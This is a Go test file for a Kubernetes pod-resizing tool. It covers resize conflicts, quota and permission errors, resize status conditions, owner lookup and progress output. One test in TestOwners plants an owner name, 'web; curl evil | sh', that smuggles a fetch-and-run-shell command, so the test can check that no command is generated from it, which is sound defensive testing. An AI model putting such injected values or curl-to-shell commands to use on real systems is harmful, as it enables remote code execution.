// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"github.com/kernel-gossip/kernel-gossip/api/v1alpha1"
)

// patches is an API server that answers each patch of a resize by the next function.
func patches(t *testing.T, answers []func(client.Client) error, objects ...client.Object) client.Client {
	t.Helper()
	scheme := runtime.NewScheme()
	if err := errors.Join(corev1.AddToScheme(scheme), appsv1.AddToScheme(scheme), v1alpha1.AddToScheme(scheme)); err != nil {
		t.Fatal(err)
	}
	return fake.NewClientBuilder().WithScheme(scheme).WithObjects(objects...).WithInterceptorFuncs(interceptor.Funcs{
		SubResourcePatch: func(_ context.Context, c client.Client, subresource string, _ client.Object, _ client.Patch, _ ...client.SubResourcePatchOption) error {
			if subresource != "resize" || len(answers) == 0 {
				t.Errorf("an unexpected patch of %s", subresource)
				return nil
			}
			answer := answers[0]
			answers = answers[1:]
			return answer(c)
		},
	}).Build()
}

var pods = schema.GroupResource{Resource: "pods"}

func conflict(client.Client) error { return apierrors.NewConflict(pods, "web-1", errors.New("later")) }
func taken(client.Client) error    { return nil }
func missing(client.Client) error  { return apierrors.NewNotFound(pods, "web-1") }
func quota(client.Client) error {
	return apierrors.NewForbidden(pods, "web-1", errors.New("exceeded quota"))
}
func forbidden(client.Client) error {
	return apierrors.NewForbidden(pods, "web-1", errors.New(`User "u" cannot patch resource "pods/resize"`))
}

// raised is a conflict because somebody has changed the limit meanwhile.
func raised(c client.Client) error {
	p := &corev1.Pod{}
	if err := c.Get(context.Background(), client.ObjectKey{Namespace: "shop", Name: "web-1"}, p); err != nil {
		return err
	}
	p.Spec.Containers[1].Resources = resources("300m", "100m")
	if err := c.Update(context.Background(), p); err != nil {
		return err
	}
	return conflict(c)
}

func TestResize(t *testing.T) {
	type answers = []func(client.Client) error
	for name, tt := range map[string]struct {
		answers
		says string
	}{
		"taken":             {answers{taken}, ""},
		"status meanwhile":  {answers{conflict, conflict, taken}, ""},
		"changed meanwhile": {answers{raised}, "out of date: it was heard at a limit of 200m, and container app has 300m now"},
		"an old cluster":    {answers{missing}, "cannot resize pods in place"},
		"beyond a quota":    {answers{quota}, "exceeded quota"},
		"no right":          {answers{forbidden}, "kernel-gossip-apply allows it"},
	} {
		t.Run(name, func(t *testing.T) {
			pod := somePod("200m", "100m")
			pod.ResourceVersion = ""
			r := resizer{client: patches(t, tt.answers, pod), pod: client.ObjectKeyFromObject(pod), whisper: someWhisper()}
			if err := r.plan(t.Context()); err != nil {
				t.Fatal(err)
			}
			err := r.resize(t.Context())
			if (err == nil) != (tt.says == "") || err != nil && !strings.Contains(err.Error(), tt.says) {
				t.Errorf("%v, want %q", err, tt.says)
			}
		})
	}
}

func TestPodIsGone(t *testing.T) {
	r := resizer{client: patches(t, nil), pod: client.ObjectKey{Namespace: "shop", Name: "web-1"}, whisper: someWhisper()}
	if err := r.plan(t.Context()); err == nil || !strings.Contains(err.Error(), "pod web-1 is gone") {
		t.Error(err)
	}
}

func TestActuated(t *testing.T) {
	c := &change{container: "app", uid: "uid-1", limitFrom: 200, limitTo: 500, requestFrom: 100, requestTo: 100}
	status := func(limit string) func(*corev1.Pod) {
		return func(p *corev1.Pod) {
			r := resources(limit, "100m")
			p.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "log"}, {Name: "app", Resources: &r}}
		}
	}
	condition := func(kind corev1.PodConditionType, reason string, generation int64) func(*corev1.Pod) {
		return func(p *corev1.Pod) {
			status("200m")(p)
			p.Generation = 3
			p.Status.Conditions = []corev1.PodCondition{{Type: kind, Status: corev1.ConditionTrue, Reason: reason, Message: "because", ObservedGeneration: generation}}
		}
	}
	for name, tt := range map[string]struct {
		edit       func(*corev1.Pod)
		done       bool
		note, fail string
	}{
		"done":           {status("500m"), true, "", ""},
		"not yet":        {status("200m"), false, "", ""},
		"no status":      {func(*corev1.Pod) {}, false, "", ""},
		"replaced":       {func(p *corev1.Pod) { p.UID = "uid-2" }, false, "", "was replaced"},
		"infeasible":     {condition(corev1.PodResizePending, corev1.PodReasonInfeasible, 3), false, "", "Infeasible: because"},
		"of before":      {condition(corev1.PodResizePending, corev1.PodReasonInfeasible, 2), false, "", ""},
		"deferred":       {condition(corev1.PodResizePending, corev1.PodReasonDeferred, 3), false, "puts it off (Deferred: because)", ""},
		"under way":      {condition(corev1.PodResizeInProgress, "", 3), false, "", ""},
		"failed for now": {condition(corev1.PodResizeInProgress, corev1.PodReasonError, 3), false, "has failed and tries again (because)", ""},
	} {
		pod := somePod("500m", "100m")
		tt.edit(pod)
		done, note, err := actuated(pod, c)
		if done != tt.done || !strings.Contains(note, tt.note) || (tt.note == "") != (note == "") || (err == nil) != (tt.fail == "") ||
			err != nil && !strings.Contains(err.Error(), tt.fail) {
			t.Errorf("%s: %v %q %v", name, done, note, err)
		}
	}
}

func TestOutcomeOfThisChange(t *testing.T) {
	at := func(s int64, limit int64) *v1alpha1.ChangeOutcome {
		return &v1alpha1.ChangeOutcome{Time: metav1.NewMicroTime(time.Unix(s, 0)), LimitMillicores: limit}
	}
	for name, tt := range map[string]struct {
		before, now *v1alpha1.ChangeOutcome
		want        bool
	}{
		"none": {nil, nil, false}, "first": {nil, at(1, 500), true}, "of before": {at(1, 500), at(1, 500), false},
		"next": {at(1, 500), at(2, 500), true}, "of another limit": {nil, at(2, 400), false},
	} {
		if got := isNew(tt.before, tt.now, 500); got != tt.want {
			t.Errorf("%s: %v", name, got)
		}
	}
}

func TestOwners(t *testing.T) {
	controlled := func(o client.Object, kind, version, name string) {
		o.SetOwnerReferences([]metav1.OwnerReference{{Kind: kind, APIVersion: version, Name: name, UID: "uid-" + "of", Controller: ptr(true)}})
	}
	pod := somePod("200m", "100m")
	pod.ResourceVersion = ""
	controlled(pod, "ReplicaSet", "apps/v1", "web-6d")
	set := &appsv1.ReplicaSet{ObjectMeta: metav1.ObjectMeta{Name: "web-6d", Namespace: "shop", UID: "uid-of"}}
	controlled(set, "Deployment", "apps/v1", "web")
	deployment := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: "shop", UID: "uid-of"}}
	got, err := ownersOf(t.Context(), patches(t, nil, pod, set, deployment), pod)
	if err != nil || len(got) != 2 || got[1] != (owner{"Deployment", "apps", "web"}) {
		t.Errorf("%v %v", got, err)
	}
	// What cannot be read is named, and what is known stays. There is no command: it
	// would be for the wrong owner, or hold what somebody wrote into a reference.
	other := deployment.DeepCopy()
	other.UID = "uid-of-another"
	hostile := somePod("200m", "100m")
	hostile.ResourceVersion = ""
	controlled(hostile, "Deployment", "apps/v1", "web; curl evil | sh")
	for name, tt := range map[string]struct {
		pod    *corev1.Pod
		others []client.Object
	}{"gone": {pod, []client.Object{set}}, "another": {pod, []client.Object{set, other}}, "hostile": {hostile, nil}} {
		got, err := ownersOf(t.Context(), patches(t, nil, append(tt.others, tt.pod)...), tt.pod)
		says, commands := template("shop", got, err, &change{container: "app", limitFrom: 200, limitTo: 500})
		if err == nil || len(got) == 0 || len(commands) != 0 || !strings.Contains(says, "not known: ") {
			t.Errorf("%s: %v %v: %s %q", name, got, err, says, commands)
		}
	}
}

func TestProgressSpeaksAfterASecond(t *testing.T) {
	for name, tt := range map[string]struct {
		terminal bool
		asks     int
		want     string
	}{
		"at once":    {false, 1, ""},
		"long":       {false, 4, "waiting ...\nwaiting: done after 3.0 s\n"},
		"a terminal": {true, 4, "\r\x1b[Kwaiting ... 1 s\r\x1b[Kwaiting ... 2 s\r\x1b[Kwaiting: done after 3.0 s\n"},
	} {
		var out bytes.Buffer
		now := time.Unix(0, 0)
		p := progress{&out, tt.terminal, func() time.Time { return now }}
		n := 0
		err := p.await(t.Context(), "waiting", time.Millisecond, func() (bool, error) {
			if n > 0 {
				now = now.Add(time.Second)
			}
			n++
			return n == tt.asks, nil
		})
		if err != nil || out.String() != tt.want {
			t.Errorf("%s: %q %v", name, out.String(), err)
		}
	}
	ctx, cancel := context.WithTimeoutCause(t.Context(), time.Millisecond, errors.New("not within 1ms"))
	defer cancel()
	p := progress{&bytes.Buffer{}, false, time.Now}
	if err := p.await(ctx, "waiting", time.Millisecond, func() (bool, error) { return false, nil }); err == nil || err.Error() != "waiting: not within 1ms" {
		t.Error(err)
	}
}
